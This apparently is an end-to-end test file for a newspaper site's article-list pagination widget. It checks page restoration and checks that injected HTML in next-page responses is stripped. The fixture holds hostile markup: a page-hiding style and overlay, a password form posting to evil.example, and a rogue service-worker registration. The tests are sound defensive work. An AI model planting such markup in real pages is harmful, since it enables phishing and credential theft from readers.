import { describe, expect, it } from 'vitest'
import { messages } from '#widgets/article-list/article-list.messages.ts'
import { enginesByTier } from './support/enginesByTier.ts'
import { t } from './support/loadIntl.ts'
import { startNewspaper } from './support/newspaper.ts'
import { engines, openTestPage } from './support/site.ts'

const { address, reader, url } = startNewspaper()

it.each(engines)(
  'a section’s next list page is added with its widgets, and is restored at the same position when the reader returns, $engine',
  async ({ engine }) => {
    const { page, problems } = await reader({ viewport: { width: 390, height: 844 } })
    await page.goto(address('/ciutat/', { engine }))
    const articles = page.locator('.section-list > div')
    const before = await articles.count()
    await page.getByRole('link', { name: t(messages.more) }).click()
    const next = page.getByRole('link', { name: t(messages.next) })
    await next.waitFor()
    expect(await articles.count()).toBe(before + 6)
    // Its markers are those of any page.
    await articles.last().scrollIntoViewIfNeeded()
    await expect
      .poll(() => articles.last().locator('[data-widget=save-to-list]').getAttribute('data-widget-state'))
      .toBe('ready')
    await next.click()
    await page.waitForURL('**/ciutat/?pagina=3*')
    await page.goBack()
    await expect.poll(() => articles.count()).toBe(before + 6)
    await expect.poll(() => next.evaluate((link) => link.getBoundingClientRect().top < window.innerHeight)).toBe(true)
    expect(problems.errors).toEqual([])
  },
)

describe.each(enginesByTier('react'))('the answer to a list of articles, $engine', ({ script }) => {
  it('adds cards and their markers: no styles, no forms, no shell of its own, no panel with other links', async () => {
    const { page } = await reader()
    const workers: string[] = []
    page.on('request', (request) => {
      if (request.url().includes('/hostile-worker')) workers.push(request.url())
    })
    const html = `<li><a href="/3">Article 3</a>
      <style>body { display: none }</style><div id="cover" style="position: fixed; inset: 0">Above the page</div>
      <form action="https://evil.example/"><input type="password" name="p"><button>Send</button></form>
      <div data-widget="page-shell" data-service-worker="/hostile-worker.js"></div>
      <div data-widget="profile"><script type="application/json">{"links":{"premium":"https://evil.example/"}}</script></div>
      <div data-widget="save-to-list" data-content-id="1103" data-title="Article 3"><a href="/3">Desa</a></div></li>`
    await page.route('**/next-page*', (route) => route.fulfill({ json: { html, nextPage: null } }))
    await openTestPage(page, url(), {
      script,
      body: `<div data-widget="article-list"><ul data-list><li><a href="/1">Article 1</a></li></ul><a rel="next" href="/next-page">Next</a></div>`,
    })
    await page.getByRole('link', { name: t(messages.more) }).click()
    const added = page.locator('li', { hasText: 'Article 3' })
    // It waits for a press.
    await expect
      .poll(() => added.locator('[data-widget=save-to-list]').getAttribute('data-widget-state'))
      .toBe('waiting')
    expect(await added.locator('style, [style], form, input').count()).toBe(0)
    expect(await page.locator('[data-widget=page-shell], [data-widget=profile]').count()).toBe(0)
    expect(workers).toEqual([])
  })
})
